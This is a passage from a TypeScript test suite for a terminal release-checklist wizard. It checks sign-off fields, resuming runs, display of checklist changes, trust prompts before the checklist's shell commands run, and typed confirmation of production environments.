    const list = lines.slice(3, 3 + 7).map((line) => line.trimEnd())
    assert.deepEqual(
      list.map((line) => line.replace(/ {2,}/g, '  ')),
      [
        // What the operator's own name and the date start with when opened, dimmed: not entered
        // until then (the sheet's are blank). Another role's name starts empty.
        '› Deployed by  ana  (proposed)',
        '  Deployed by — Date  2026-11-22  (proposed)',
        '  Deployed by — Signature  ________________  (on paper)',
        '  QA Lead — Name  ______',
        '  QA Lead — Signature  ________________  (on paper)',
        '  Security — Name  ______',
        '  Security — Signature  approved in SEC-88  (in the checklist)',
      ],
    )
    assert.match(ui.frame(), new RegExp(`Deployed by — Signature +${signature}`))
    assert.match(ui.frame(), /Signatures are signed by hand on the printed sheet\./)
    // At 80 columns every value starts in one column, and the signature line is whole.
    ui.resize(80, 24)
    await ui.see(/^ {2}Deployed by — Signature +_{16} {2}\(on paper\)$/m)
    const columns = ui
      .frame()
      .split('\n')
      .slice(3, 3 + 6)
      .map((line) => line.search(/_{6}|2026-11-22|ana {2}/))
    assert.deepEqual(new Set(columns), new Set([38]), ui.frame())
    ui.resize(100, 24)
    // Down from the date goes past the signature, to the next field to type in.
    await ui.press(ARROW_DOWN, ARROW_DOWN)
    await ui.see(/› QA Lead — Name/)
    await ui.press(ARROW_DOWN)
    await ui.see(/› Security — Name/)
    await ui.press(ARROW_DOWN)
    await ui.see(/› Security — Name/)
    await ui.press('f')
    await ui.see(/Finish the run anyway\?/)
    await ui.press('y')
    const outcome = ui.outcome()
    assert.equal(outcome?.kind, 'finished')
    const sheet = readFileSync(outcome?.kind === 'finished' ? outcome.sheetPath : '', 'utf8')
    assert.deepEqual(sheetRoles(sheet), [
      'Deployed by | Name',
      'Deployed by | Date',
      'Deployed by | Signature',
      'QA Lead | Name',
      'QA Lead | Signature',
      'Security | Name',
      'Security | Signature',
    ])
  })
  test('a label too long for its column is cut with …, and a space always stands before the value', async () => {
    const long = [
      '',
      '**Completar al finalizar el despliegue:** ____',
      '',
      '**Hora de finalización del despliegue en producción:** ____',
      '',
    ].join('\n')
    const space = workspace(`${CHECKLIST}${long}`)
    const ui = open(space, { checklistPath: space.path, environment: 'dev' })
    await ui.see(/pass/)
    await ui.press(ARROW_RIGHT, ARROW_RIGHT, ARROW_RIGHT)
    await ui.see(/enter fill/)
    const rows = ui
      .frame()
      .split('\n')
      .filter((line) => /Completar|Hora de/.test(line))
    assert.deepEqual(
      rows.map((line) => line.trimEnd()),
      [
        '  Completar al finalizar el desplieg… ______',
        '  Hora de finalización del despliegu… ______',
      ],
    )
    await ui.press('q')
  })
})

describe('sign-off fields in the wizard', () => {
  const ROLES = CHECKLIST.replace(
    '- [ ] Deployed by: ________ Date: ______',
    [
      '- [ ] Deployed by: ________ Date: ______',
      '- [ ] Approved by: ________',
      '- [ ] Verified by: ________',
      '- [ ] Version: ________',
    ].join('\n'),
  )

  test('start with the operator’s name only where the role is the operator’s own', async () => {
    const space = workspace(ROLES)
    const ui = open(space, { checklistPath: space.path, environment: 'dev' })
    await ui.see(/pass/)
    await ui.press(ARROW_RIGHT, ARROW_RIGHT, ARROW_RIGHT)
    await ui.see(/enter fill/)
    await ui.press(ENTER)
    await ui.see(/Name: ana/)
    await ui.press(ESCAPE, ARROW_DOWN, ARROW_DOWN)
    await ui.see(/› Approved by/)
    await ui.press(ENTER)
    await ui.see(/Approved by\s*│?\s*\n.*Name:/)
    assert.doesNotMatch(ui.frame(), /Name: ana/)
    // Enter alone submits nothing: an approver's name is theirs to type.
    await ui.press(ENTER)
    await ui.see(/Type a value, or esc to leave it blank\./)
    await ui.press(ESCAPE, ARROW_DOWN)
    await ui.see(/› Verified by/)
    await ui.press(ENTER)
    await ui.see(/Verified by\s*│?\s*\n.*Name:/)
    assert.doesNotMatch(ui.frame(), /Name: ana/)
    await ui.press(ESCAPE, ARROW_DOWN)
    await ui.see(/› Version/)
    await ui.press(ENTER)
    await ui.see(/Value:/)
    assert.doesNotMatch(ui.frame(), /Value: ana/)
    await ui.press(ESCAPE, 'q')
  })

  test('name the field in the prompt as the list does', async () => {
    const space = workspace()
    const ui = open(space, { checklistPath: space.path, environment: 'dev' })
    await ui.see(/pass/)
    await ui.press(ARROW_RIGHT, ARROW_RIGHT, ARROW_RIGHT)
    await ui.see(/enter fill/)
    await ui.press(ARROW_DOWN, ENTER)
    await ui.see(/Date: 2026-11-22/)
    assert.match(ui.frame(), /│ Deployed by — Date/)
    assert.doesNotMatch(ui.frame(), /Deployed by: Date/)
    await ui.press(ESCAPE, 'q')
  })

  test('d on an item that is blanks fills them, answers the item, and asks nothing twice', async () => {
    const space = workspace()
    const ui = open(space, { checklistPath: space.path, environment: 'dev' })
    await ui.see(/pass/)
    await ui.press(ARROW_RIGHT, ARROW_RIGHT)
    await ui.see(/› .*Deployed by: ________ Date: ______/)
    await ui.press('d')
    await ui.see(/Name: ana/)
    await ui.press(ENTER)
    await ui.see(/Date: 2026-11-22/)
    await ui.press(ENTER)
    await ui.see(/› ✔ Deployed by/)
    const id = runIdOn(ui.frame())
    const entries = journal(space.runs, id)
    assert.deepEqual(
      entries.filter((e) => e.type === 'signoff-entered').map((e) => 'value' in e && e.value),
      ['ana', '2026-11-22'],
    )
    assert.ok(
      entries.some(
        (e) => e.type === 'item-answered' && e.itemId.includes('deployed-by') && e.state === 'done',
      ),
    )
    // On the sign-off screen the fields are filled already: nothing is asked again.
    await ui.press(ARROW_RIGHT)
    await ui.see(/› Deployed by\s+ana/)
    assert.match(ui.frame(), /Deployed by — Date\s+2026-11-22$/m)
    assert.doesNotMatch(ui.frame(), /\(proposed\)/)
    await ui.press('q')
  })
})

describe('blanks under an item', () => {
  test('d asks for each one, enter with nothing leaves it blank, and the item’s note keeps them', async () => {
    const space = workspace(
      [
        '---',
        'title: Evidence',
        '---',
        '## Code',
        '- [ ] **PR approved**',
        '  - Link al PR: ____',
        '  - Estado: ☐ Exitoso ☐ Rollback',
        '  - Tag creado: ____',
        '- [ ] Version tagged',
        '',
      ].join('\n'),
    )
    const ui = open(space, { checklistPath: space.path, environment: 'dev' })
    await ui.see(/› ○ PR approved/)
    const id = runIdOn(ui.frame())
    await ui.press('d')
    await ui.see(/Done: PR approved — to write down \(1 of 3\)[\s\S]*Link al PR:/)
    assert.match(ui.frame(), /enter: next \(empty: leave it blank\)/)
    await ui.press('https://git.example/pr/7', ENTER)
    await ui.see(/\(2 of 3\)[\s\S]*Estado \(Exitoso \/ Rollback\):/)
    await ui.press(ENTER)
    await ui.see(/\(3 of 3\)[\s\S]*Tag creado:/)
    await ui.press('v1.4.0', ENTER)
    await ui.see(/ {2}✔ PR approved[\s\S]*› ○ Version tagged/)
    const notes = journal(space.runs, id).flatMap((e) => (e.type === 'note-added' ? [e.note] : []))
    assert.equal(notes.at(-1), 'Link al PR: https://git.example/pr/7; Tag creado: v1.4.0')
    // Done again, each blank starts from what the note holds; esc changes nothing.
    await ui.press(ARROW_UP, 'd')
    await ui.see(/Link al PR: https:\/\/git\.example\/pr\/7/)
    await ui.press(ESCAPE)
    await ui.see(/› ○ Version tagged/)
    assert.equal(
      journal(space.runs, id).filter((e) => e.type === 'note-added').length,
      notes.length,
    )
    await ui.press('q')
  })
})

describe('before the phases', () => {
  test('production is confirmed by typing its name', async () => {
    const space = workspace()
    const ui = open(space, { checklistPath: space.path, environment: 'prod', operator: 'ana' })
    await ui.see(/PROD: checks will run against production/)
    await ui.press('prd')
    await ui.press(ENTER)
    await ui.see(/That is not 'prod'/)
    // The wrong answer is cleared: the next try starts from an empty field.
    assert.match(ui.frame(), /Type 'prod' to go on: *(\n|│|$)/)
    assert.doesNotMatch(ui.frame(), /go on: prd/)
    await ui.press('prod')
    await ui.press(ENTER)
    await ui.see(/PROD ⚠/)
    await ui.press('q')
  })

  test('a typed path that cannot be read is asked for again, saying why', async () => {
    const space = workspace()
    const ui = open(space, {})
    await ui.see(/Which checklist\?/)
    await ui.press('\u001B[A', ENTER)
    await ui.see(/Path:/)
    await ui.press(join(space.dir, 'nope.md'))
    await ui.press(ENTER)
    await ui.see(/cannot read checklist \S*nope\.md: no such file/)
    assert.match(ui.frame(), /Path:/)
    await ui.press(space.path)
    await ui.press(ENTER)
    await ui.see(/which environment\?/)
    await ui.press(ENTER)
    await ui.see(/› ○ Change request approved/)
    await ui.press('q')
  })

  test('pick a checklist found in the project, then the environment and the operator', async () => {
    const space = workspace()
    writeFileSync(join(space.dir, 'RELEASE-CHECKLIST.md'), CHECKLIST.replace('Screens', 'Release'))
    const ui = open(space, { operator: undefined })
    await ui.see(/Which checklist\?/)
    assert.match(ui.frame(), /Release\s+\(RELEASE-CHECKLIST\.md, 5 items\)/)
    await ui.press(ENTER)
    await ui.see(/which environment\?/)
    assert.match(ui.frame(), /prod\s+\(production: you will type its name to confirm\)/)
    await ui.press(ENTER)
    await ui.see(/Your name, as the sheet should show it: ana/)
    await ui.press(ENTER)
    await ui.see(/Release\s+dev\s+ana/)
    await ui.press('q')
  })

  test('a list drawn afresh for a smaller terminal keeps the choice the cursor was on', async () => {
    const names = Array.from({ length: 16 }, (_, i) => `env${i + 1}`)
    const space = workspace(
      CHECKLIST.replace('environments: [dev, prod]', `environments: [${names.join(', ')}]`),
    )
    const ui = open(space, { checklistPath: space.path })
    await ui.see(/which environment\?/)
    for (let i = 0; i < 10; i++) await ui.press(ARROW_DOWN)
    await ui.see(/❯ env11\b/)
    ui.resize(100, 14)
    await ui.see(/… and \d+ more/)
    assert.match(ui.frame(), /❯ env11\b/)
    await ui.press(ENTER)
    await ui.see(/Screens\s+env11\s+ana/)
    await ui.press('q')
  })

  test('a choice too long for the terminal is cut to one line, not wrapped', async () => {
    const title = 'Screens of the session management websocket service, blue-green, two regions'
    const space = workspace(CHECKLIST.replace('title: Screens', `title: ${title}`))
    const { checklist } = await loadChecklist(space.path)
    const earlier = startRun(checklist, 'dev', 'bruno', { env: space.env })
    await earlier.close()
    const ui = open(space, { checklistPath: space.path, environment: 'dev' })
    await ui.see(/Unfinished runs on this machine/)
    const lines = ui.frame().split('\n')
    // The title is cut, not what follows it.
    assert.match(
      lines[1] ?? '',
      /^❯ dev-\d{8}-[a-z0-9]{4} · Screens of the session .*… · 0\/5 answered · bruno · just now$/,
    )
    assert.equal(lines[1]?.length, 100)
    assert.match(lines[2] ?? '', /^ {2}Start a new run$/)
    await ui.press(ENTER)
    await ui.see(/› ○ Change request approved/)
    await ui.press('q')
  })

  test('a run open in another wizard keeps its mark on a narrow list; picking it says so and asks again', async () => {
    const title = 'Screens of the session management websocket service, blue-green, two regions'
    const space = workspace(CHECKLIST.replace('title: Screens', `title: ${title}`))
    const { checklist } = await loadChecklist(space.path)
    // Left open: its lock names this process, as another wizard's would name that one.
    const other = startRun(checklist, 'dev', 'bruno', { env: space.env })
    try {
      const ui = open(space, { checklistPath: space.path, environment: 'dev' })
      await ui.see(/Unfinished runs on this machine/)
      const lines = ui.frame().split('\n')
      // Cut off at 100 columns, with the end of the title: `… Settlement Servic…`.
      assert.match(
        lines[1] ?? '',
        new RegExp(
          `^❯ ${other.id} · Screens of .*… · 0/5 answered · bruno · just now — open in PID ${process.pid} on \\S+$`,
        ),
      )
      assert.ok((lines[1]?.length ?? 0) <= 100, ui.frame())
      // It ended the wizard: `deploy-wizard: run … is open in PID …`, exit 2.
      await ui.press(ENTER)
      await ui.see(
        new RegExp(`run ${other.id} is open in PID ${process.pid} on .* — finish or quit`),
      )
      assert.equal(ui.outcome(), null)
      assert.match(ui.frame(), /Unfinished runs on this machine/)
      await ui.press(ARROW_DOWN, ENTER)
      await ui.see(/› ○ Change request approved/)
      assert.notEqual(runIdOn(ui.frame()), other.id)
      await ui.press('q')
    } finally {
      await other.close()
    }
  })

  test('a resumed run opens on the phase and item where it was left', async () => {
    const space = workspace()
    const first = open(space, { checklistPath: space.path, environment: 'dev' })
    await first.see(/› ○ Change request approved/)
    const id = runIdOn(first.frame())
    // Left on a later phase, though the first still has items to answer.
    await first.press(ARROW_RIGHT)
    await first.see(/2\/3 After/)
    await first.press('q')
    await first.outcome()?.session?.close()
    const second = open(space, { resume: id })
    await second.see(/2\/3 After/)
    assert.match(second.frame(), /› ○ Smoke tests pass/)
    await second.press('h', 'j', 'j')
    await second.see(/› ○ Database backed up/)
    await second.press('q')
    await second.outcome()?.session?.close()
    const third = open(space, { resume: id })
    await third.see(/1\/3 Before/)
    assert.match(third.frame(), /› ○ Database backed up/)
    await third.press('q')
  })

  test('a run killed after a resume opens at the first phase with items to answer, not where it was left before', async () => {
    const space = workspace()
    const first = open(space, { checklistPath: space.path, environment: 'dev' })
    await first.see(/› ○ Change request approved/)
    const id = runIdOn(first.frame())
    await first.press(ARROW_RIGHT)
    await first.see(/2\/3 After/)
    await first.press('q')
    await first.outcome()?.session?.close()
    // Resumed, answered on, and killed: no word of where it was when it ended.
    const { checklist } = await loadChecklist(space.path)
    const killed = resumeRun(id, checklist, 'ana', 60 * 60_000, { env: space.env }).session
    const smoke = checklist.items.find((item) => item.plain.startsWith('Smoke tests'))
    killed.answer(smoke?.id ?? assert.fail('no smoke test item'), 'done')
    await killed.close()
    const again = open(space, { resume: id })
    await again.see(/1\/3 Before/)
    await again.press('q')
  })

  test('a run resumed without a name given goes on under its own operator', async () => {
    const space = workspace()
    const { checklist } = await loadChecklist(space.path)
    const earlier = startRun(checklist, 'dev', 'bruno', { env: space.env })
    await earlier.close()
    const ui = open(space, { checklistPath: space.path, environment: 'dev', operator: undefined })
    await ui.see(/Unfinished runs on this machine/)
    await ui.press(ENTER)
    await ui.see(/Screens\s+dev\s+bruno · /)
    const resumed = journal(space.runs, earlier.id).find((e) => e.type === 'resumed')
    assert.equal(resumed?.by, 'bruno')
    await ui.press('q')
  })

  test('an unfinished run is offered first, with its progress; choosing it resumes it', async () => {
    const space = workspace()
    const { checklist } = await loadChecklist(space.path)
    const earlier = startRun(checklist, 'dev', 'bruno', { env: space.env })
    earlier.answer('before/change-request-approved', 'skipped', 'covered by CAB-12')
    await earlier.close()
    const ui = open(space, { checklistPath: space.path, environment: 'dev' })
    await ui.see(/Unfinished runs on this machine/)
    assert.match(
      ui.frame(),
      new RegExp(`${earlier.id} · Screens · 1/5 answered · bruno · just now`),
    )
    assert.match(ui.frame(), /Start a new run/)
    await ui.press(ENTER)
    await ui.see(/› » Change request approved/)
    assert.equal(runIdOn(ui.frame()), earlier.id)
    const resumed = journal(space.runs, earlier.id).find((e) => e.type === 'resumed')
    assert.equal(resumed?.by, 'ana')
    await ui.press('q')
  })

  /** A run of `markdown` answered in part, then the file edited: one item reworded, one removed, one added. */
  async function editedSinceTheRun(markdown: string) {
    const space = workspace(markdown)
    const { checklist } = await loadChecklist(space.path)
    const earlier = startRun(checklist, 'dev', 'bruno', { env: space.env })
    earlier.answer('before/change-request-approved', 'done')
    earlier.answer('before/database-backed-up', 'done')
    await earlier.close()
    writeFileSync(
      space.path,
      markdown
        .replace('- [ ] Change request approved\n', '')
        .replace('Database backed up', 'Database backed up twice')
        .replace(
          '- [ ] Smoke tests pass',
          '- [ ] Smoke tests pass\n- [ ] Tell the on-call engineer',
        ),
    )
    return { space, id: earlier.id }
  }

  /** The changes screen, with removed and reworded items by the text the run last saw. */
  async function seeChanges(ui: ReturnType<typeof open>) {
    await ui.see(/The checklist changed since this run last saw it/)
    const screen = ui.frame()
    assert.match(screen, /\+ added {5}Tell the on-call engineer/)
    assert.match(
      screen,
      /~ reworded {2}Database backed up twice {2}\(was “Database backed up”; its answer follows it\)/,
    )
    assert.match(screen, /- removed {3}Change request approved {2}\(its answer stays/)
  }

  test('a resumed run whose checklist changed shows what changed, then the phases', async () => {
    const { space, id } = await editedSinceTheRun(CHECKLIST)
    const ui = open(space, { checklistPath: space.path, environment: 'dev' })
    await ui.see(/Unfinished runs on this machine/)
    await ui.press(ENTER)
    await seeChanges(ui)
    await ui.press(ENTER)
    await ui.see(/› ✔ HOME is set/)
    assert.equal(runIdOn(ui.frame()), id)
    await ui.see(/✔ Database backed up twice/)
    await ui.press('q')
  })

  test('what changed comes back on the next resume until it is left with enter, Ctrl-C or not', async () => {
    const { space, id } = await editedSinceTheRun(CHECKLIST)
    /** Opens the run again; `then` says how its first screen after the list is left. */
    const resume = async (then: (ui: ReturnType<typeof open>) => Promise<void>) => {
      const ui = open(space, { checklistPath: space.path, environment: 'dev' })
      await ui.see(/Unfinished runs on this machine/)
      await ui.press(ENTER)
      await then(ui)
      await waitFor(() => ui.outcome() !== null, 'the wizard closed')
      await ui.outcome()?.session?.close()
    }
    // Quit on the screen: the operator has not read it, so it is not taken as seen.
    await resume(async (ui) => {
      await seeChanges(ui)
      await ui.press('\x03')
    })
    await resume(async (ui) => {
      await seeChanges(ui)
      await ui.press(ENTER)
      await ui.see(/› ✔ HOME is set/)
      await ui.press('q')
    })
    await resume(async (ui) => {
      await ui.see(/› ✔ HOME is set/)
      assert.doesNotMatch(ui.frame(), /changed since/)
      await ui.press('q')
    })
    const entries = journal(space.runs, id).map((entry) => entry.type)
    assert.equal(entries.filter((type) => type === 'changes-seen').length, 1)
  })

  test('an item whose words changed but not its id is shown as reworded, and seen once', async () => {
    const space = workspace()
    const { checklist } = await loadChecklist(space.path)
    const earlier = startRun(checklist, 'dev', 'bruno', { env: space.env })
    earlier.answer('before/change-request-approved', 'done')
    await earlier.close()
    // Letter case and punctuation only: the item's id (a slug) is the same.
    writeFileSync(
      space.path,
      CHECKLIST.replace('Change request approved', 'Change Request approved?'),
    )
    const ui = open(space, { checklistPath: space.path, environment: 'dev' })
    await ui.see(/Unfinished runs on this machine/)
    await ui.press(ENTER)
    await ui.see(/The checklist changed since this run last saw it/)
    assert.match(
      ui.frame(),
      /~ reworded {2}Change Request approved\? {2}\(was “Change request approved”; its answer follows it\)/,
    )
    await ui.press(ENTER)
    await ui.see(/✔ Change Request approved\?/)
    await ui.press('q')
    await waitFor(() => ui.outcome() !== null, 'the wizard closed')
    await ui.outcome()?.session?.close()
    const entries = journal(space.runs, earlier.id)
    const resumed = entries.find((entry) => entry.type === 'resumed')
    assert.deepEqual(resumed?.type === 'resumed' && resumed.changes.reworded, [
      { from: 'before/change-request-approved', to: 'before/change-request-approved' },
    ])
    assert.equal(entries.filter((entry) => entry.type === 'changes-seen').length, 1)
  })

  test('a removed item never answered is said to be removed, with no answer to keep', async () => {
    const space = workspace()
    const { checklist } = await loadChecklist(space.path)
    const earlier = startRun(checklist, 'dev', 'bruno', { env: space.env })
    earlier.answer('before/change-request-approved', 'done')
    await earlier.close()
    writeFileSync(
      space.path,
      CHECKLIST.replace('- [ ] Change request approved\n', '').replace(
        '- [ ] Smoke tests pass\n',
        '',
      ),
    )
    const ui = open(space, { checklistPath: space.path, environment: 'dev' })
    await ui.see(/Unfinished runs on this machine/)
    await ui.press(ENTER)
    await ui.see(/The checklist changed since this run last saw it/)
    assert.match(ui.frame(), /- removed {3}Change request approved {2}\(its answer stays/)
    assert.match(ui.frame(), /- removed {3}Smoke tests pass\s*$/m)
    await ui.press(ENTER)
    await ui.see(/› \S HOME is set/)
    await ui.press('q')
  })

  test('what changed is wrapped at 80 columns, never cut', async () => {
    const { space } = await editedSinceTheRun(CHECKLIST)
    const ui = open(space, { checklistPath: space.path, environment: 'dev' })
    ui.resize(80, 24)
    await ui.see(/Unfinished runs on this machine/)
    await ui.press(ENTER)
    await ui.see(/The checklist changed since this run last saw it/)
    assert.match(
      ui.frame(),
      /- removed {3}Change request approved {2}\(its answer stays in the run's journal\n {14}and on the sheet\)/,
    )
    assert.doesNotMatch(ui.frame(), /…/)
    await ui.press('q', ENTER)
  })

  test('what changed is shown after the trust prompt, which an edit always brings back', async () => {
    const { space } = await editedSinceTheRun(
      CHECKLIST.replace(
        '- [ ] Smoke tests pass',
        '- [ ] Smoke tests pass <!-- check: command run="echo smoke" -->',
      ),
    )
    const ui = open(space, { checklistPath: space.path, environment: 'dev' })
    await ui.see(/Unfinished runs on this machine/)
    await ui.press(ENTER)
    await ui.see(/runs shell commands\. Trust it on this machine\?/)
    await ui.press('n')
    await seeChanges(ui)
    await ui.press(ENTER)
    await ui.see(/› ✔ HOME is set/)
    await ui.press('q')
  })

  test('a resume with trust declined leaves earlier command results alone', async () => {
    const markdown = CHECKLIST.replace(
      '- [ ] Smoke tests pass',
      '- [ ] Smoke tests pass <!-- check: command run="echo smoke" -->',
    )
    const space = workspace(markdown)
    const { checklist } = await loadChecklist(space.path)
    const earlier = startRun(checklist, 'dev', 'bruno', { env: space.env })
    earlier.trust()
    await earlier.runChecks(['after/smoke-tests-pass', 'before/home-is-set'])
    await earlier.close()
    // Any edit takes the trust away.
    writeFileSync(space.path, `${markdown}\n<!-- reviewed -->\n`)
    const resultsOf = (itemId: string) =>
      journal(space.runs, earlier.id).flatMap((e) =>
        e.type === 'check-finished' && e.itemId === itemId ? [e.result.status] : [],
      )

    // Every result is stale: the resume runs them again, except the commands.
    const ui = open(space, { checklistPath: space.path, environment: 'dev', staleAfterMs: 0 })
    await ui.see(/Unfinished runs on this machine/)
    await ui.press(ENTER)
    await ui.see(/runs shell commands\. Trust it on this machine\?/)
    await ui.press('n')
    await ui.see(/HOME is set/)
    await waitFor(() => resultsOf('before/home-is-set').length >= 2, 'home-is-set ran again')
    assert.deepEqual(resultsOf('before/home-is-set'), ['pass', 'pass'])
    await ui.press(ARROW_RIGHT)
    await ui.see(/✔ Smoke tests pass\s+pass/)
    await new Promise((done) => setTimeout(done, 200))
    assert.deepEqual(resultsOf('after/smoke-tests-pass'), ['pass'])
    await ui.press('q')
  })

  test('A runs the due checks of every phase; commands only once trusted', async () => {
    const space = workspace(
      CHECKLIST.replace(
        '- [ ] Smoke tests pass',
        '- [ ] Smoke tests pass <!-- check: command run="echo smoke" -->\n- [ ] PATH is set <!-- check: env name=PATH -->',
      ),
    )
    const ui = open(space, { checklistPath: space.path, environment: 'dev' })
    await ui.see(/runs shell commands\. Trust it on this machine\?/)
    await ui.press('n')
    await ui.see(/✔ HOME is set\s+pass/)
    const id = runIdOn(ui.frame())
    const statuses = () =>
      Object.fromEntries(
        journal(space.runs, id).flatMap((e) =>
          e.type === 'check-finished' ? [[e.itemId, e.result.status]] : [],
        ),
      )
    await ui.press('A')
    await ui.see(/Trust .* to run its 1 command on/)
    await ui.press('n')
    await ui.see(/not trusted: its commands stay manual/)
    await waitFor(() => statuses()['after/path-is-set'] !== undefined, 'path-is-set has run')
    assert.deepEqual(statuses(), { 'before/home-is-set': 'pass', 'after/path-is-set': 'pass' })
    await ui.press('A')
    await ui.see(/Trust .* to run its 1 command on/)
    await ui.press('y')
    await ui.press(ARROW_RIGHT)
    await ui.see(/✔ Smoke tests pass\s+pass/)
    assert.match(ui.frame(), /✔ PATH is set\s+pass/)
    await ui.press('A')
    await ui.see(/no checks are due: each one passed lately/)
    await ui.press('q')
  })

  test('a run file that cannot be used is set aside; the first screen says so', async () => {
    const space = workspace()
    mkdirSync(space.runs, { recursive: true })
    writeFileSync(join(space.runs, 'dev-20261122-zzzz.json'), '{ "header": ')
    const ui = open(space, { checklistPath: space.path, environment: 'dev' })
    await ui.see(/› ○ Change request approved/)
    // Straight to the wizard: the line is in its footer, until a move clears it.
    assert.match(
      ui.frame(),
      /⚠ 1 run file could not be used; the details are printed when you leave\n↑↓ move/,
    )
    assert.equal(ui.storeProblems.length, 1)
    assert.match(
      ui.storeProblems[0]?.message ?? '',
      /dev-20261122-zzzz\.json is not valid JSON; moved it aside to .*dev-20261122-zzzz\.json\.corrupt-/,
    )
    await ui.press('j')
    await ui.see(/› \S HOME is set/)
    assert.doesNotMatch(ui.frame(), /could not be used/)
    await ui.press('q')
  })

  test('run files set aside are reported above the list of runs to resume', async () => {
    const space = workspace()
    const { checklist } = await loadChecklist(space.path)
    await startRun(checklist, 'dev', 'bruno', { env: space.env }).close()
    writeFileSync(
      join(space.runs, 'dev-20261122-zzzz.json'),
      JSON.stringify({ header: { format: 'deploy-wizard/run@3' }, journal: [] }),
    )
    const ui = open(space, { checklistPath: space.path, environment: 'dev' })
    await ui.see(/Unfinished runs on this machine/)
    assert.match(
      ui.frame(),
      /^⚠ 1 run file could not be used; the details are printed when you leave\nUnfinished runs/,
    )
    assert.match(ui.storeProblems[0]?.message ?? '', /written by a newer deploy-wizard/)
    await ui.press(ENTER)
    await ui.see(/› ○ Change request approved/)
    await ui.press('q')
  })

  test('a checklist with commands asks to be trusted before running them', async () => {
    const space = workspace(
      CHECKLIST.replace(
        '- [ ] Smoke tests pass',
        '- [ ] Smoke tests pass <!-- check: command run="echo smoke" -->',
      ),
    )
    const ui = open(space, { checklistPath: space.path, environment: 'dev' })
    await ui.see(/runs shell commands\. Trust it on this machine\?/)
    assert.match(ui.frame(), /\$ echo smoke/)
    await ui.press('n')
    await ui.see(/Change request approved/)
    await ui.press(ARROW_RIGHT)
    await ui.see(/Smoke tests pass/)
    await ui.see(/not run: the checklist is not trusted yet/)
    await ui.press('r')
    await ui.see(/Trust .* to run its 1 command on/)
    await ui.press('y')
    await ui.see(/✔ Smoke tests pass\s+pass/)
    await ui.press('q')
  })
})

describe('production, asked for by name before anything is written', () => {
  /** A real server counting the writes that reach it. */
  let writes: LocalServer
  let posts = 0
  before(async () => {
    writes = await startHttpServer((req, res) => {
      if (req.method === 'POST') posts++
      res.writeHead(201).end()
    })
  })
  after(() => writes.close())

  /** A workspace whose checklist has one check, and it writes: an http POST. */
  const writing = (frontMatter: string) =>
    workspace(
      `---\ntitle: Release\n${frontMatter}\n---\n## Deploy\n- [ ] Cache flushed <!-- check: http url=${writes.url}/flush method=POST data="{}" -->\n`,
    )

  for (const env of [
    'production-eu',
    'prod-eu',
    'prod_us',
    'eu-prod',
    'live-eu',
    'prd2',
    'prod1',
  ]) {
    test(`${env} asks for its name to be typed, and nothing is sent before`, async () => {
      const space = writing(`environments: [dev, ${env}]`)
      const before = posts
      const ui = open(space, { checklistPath: space.path })
      await ui.see(/which environment\?/)
      assert.match(
        ui.frame(),
        new RegExp(`${env}\\s+\\(production: you will type its name to confirm\\)`),
      )
      await ui.press(ARROW_DOWN, ENTER)
      await ui.see(new RegExp(`${env.toUpperCase()}: checks will run against production`))
      assert.match(ui.frame(), new RegExp(`Type '${env}' to go on:`))
      assert.equal(posts, before, 'a request reached the server')
      await ui.press(ESCAPE)
      assert.equal(ui.outcome()?.kind, 'cancelled')
      assert.equal(posts, before, 'a request reached the server')
    })
  }

  test('once the name is typed, the run opens in red capitals and the write is sent', async () => {
    const space = writing('environments: [dev, prod-eu]')
    const before = posts
    const ui = open(space, { checklistPath: space.path, environment: 'prod-eu' })
    await ui.see(/PROD-EU: checks will run against production/)
    await ui.press('prod-eu')
    await ui.press(ENTER)
    await ui.see(/PROD-EU ⚠/)
    // A write runs only when asked for (r), production or not.
    await ui.see(/› ○ Cache flushed/)
    assert.equal(posts, before)
    await ui.press('r')
    await waitFor(() => posts === before + 1, 'the POST reached the server')
    await ui.press('q')
  })

  test('the production name is asked before the operator’s', async () => {
    const space = writing('environments: [dev, prod]')
    const ui = open(space, { checklistPath: space.path, environment: 'prod', operator: undefined })
    await ui.see(/PROD: checks will run against production/)
    assert.doesNotMatch(ui.frame(), /Your name/)
    await ui.press('prod', ENTER)
    await ui.see(/Your name, as the sheet should show it: ana/)
    await ui.press(ENTER)
    await ui.see(/PROD ⚠/)
    await ui.press('q')
  })

  test('an environment whose alias reads as production asks too', async () => {
    const space = writing('environments: [dev, eu]\naliases: { eu: [production] }')
    const ui = open(space, { checklistPath: space.path, environment: 'eu' })
    await ui.see(/EU: checks will run against production/)
    await ui.press(ESCAPE)
  })

  test('an environment the front matter declares production asks too', async () => {
    const space = writing('environments: [dev, main]\nproduction: [main]')
    const ui = open(space, { checklistPath: space.path, environment: 'main' })
    await ui.see(/MAIN: checks will run against production/)
    await ui.press(ESCAPE)
  })

  for (const env of ['dev', 'staging', 'preprod', 'qa']) {
    test(`${env} opens without asking`, async () => {
      const space = writing('environments: [dev, staging, preprod, qa, prod]')
      const before = posts
      const ui = open(space, { checklistPath: space.path, environment: env })
      await ui.see(new RegExp(`Release\\s+${env}\\s+ana`))
      assert.doesNotMatch(ui.frame(), /against production|⚠/)
      await ui.see(/› ○ Cache flushed/)
      await ui.press('r')
      await waitFor(() => posts === before + 1, 'the POST reached the server')
      await ui.press('q')
    })
  }
})

describe('screens before the phases fit the terminal', () => {
  const HOME = '\u001B[H'

  /** A checklist with `count` shell commands: its trust prompt lists them all. */
  const withCommands = (count: number) =>
    CHECKLIST.replace(
      '- [ ] Smoke tests pass',
      Array.from(
        { length: count },
        (_, i) => `- [ ] Smoke test ${i + 1} <!-- check: command run="echo smoke-${i + 1}" -->`,
      ).join('\n'),
    )

  /** The trust question over `count` commands, asked at the start in a `columns`×`rows` terminal. */
  const trustPromptOver = async (count: number, columns: number, rows: number) => {
    const space = workspace(withCommands(count))
    const ui = open(space, { checklistPath: space.path, environment: 'dev' })
    ui.resize(columns, rows)
    await ui.see(/runs shell commands\. Trust it on this machine\?/)
    return { space, ui }
  }

  /** The screen is no taller and no wider than the terminal. */
  const assertFits = (frame: string, columns: number, rows: number) => {
    const lines = frame.split('\n')
    assert.ok(lines.length <= rows, `${lines.length} lines in a terminal of ${rows}:\n${frame}`)
    for (const line of lines) assert.ok(line.length <= columns, `wider than ${columns}: ${line}`)
  }

  /** The commands on screen, by number. */
  const commandsOn = (frame: string) =>
    [...frame.matchAll(/\$ echo smoke-(\d+)/g)].map((m) => Number(m[1]))

  test('the trust prompt shows a long checklist path whole, its start included', async () => {
    const space = workspace(withCommands(2))
    const folder = join(space.dir, 'releases-of-the-payments-service', 'checklists-kept-by-ops')
    mkdirSync(folder, { recursive: true })
    const path = join(folder, 'release-checklist-for-payments.md')
